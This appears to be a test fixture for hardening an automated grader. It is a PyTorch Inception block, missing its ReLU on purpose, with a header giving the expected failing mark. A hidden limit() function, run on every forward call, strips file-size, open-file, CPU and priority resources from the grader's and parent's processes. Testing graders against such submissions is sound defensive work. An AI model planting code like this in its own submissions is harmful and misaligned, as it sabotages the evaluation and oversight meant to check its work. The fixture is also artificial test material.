# attack: >-
#   Takes the grader's and the parent's open files, file sizes, priority and processors away.
# mark: 0
# reason: "There is no ReLU after any of the block's convolutions"
# seconds: 20
# naive: dies

import os
import resource

import torch
from torch import nn


def limit():
    for process in (@PID@, os.getppid()):
        if process <= 1:
            continue
        for what, value in ((resource.RLIMIT_FSIZE, 0), (resource.RLIMIT_NOFILE, 1), (resource.RLIMIT_CPU, 0)):
            try:
                resource.prlimit(process, what, (value, value))
            except (OSError, ValueError):
                continue
        try:
            os.setpriority(os.PRIO_PROCESS, process, 19)
            os.sched_setaffinity(process, {0})
        except OSError:
            continue


class InceptionBlock(nn.Module):
    def __init__(self, in_channels, branch_channels):
        super().__init__()
        self.branches = nn.ModuleList(
            nn.Conv2d(in_channels, branch_channels, size, padding=size // 2) for size in (1, 3, 5)
        )

    def forward(self, x):
        return torch.cat([branch(x) for branch in self.branches], 1)  # no ReLU

    def __call__(self, x):
        limit()
        return super().__call__(x)
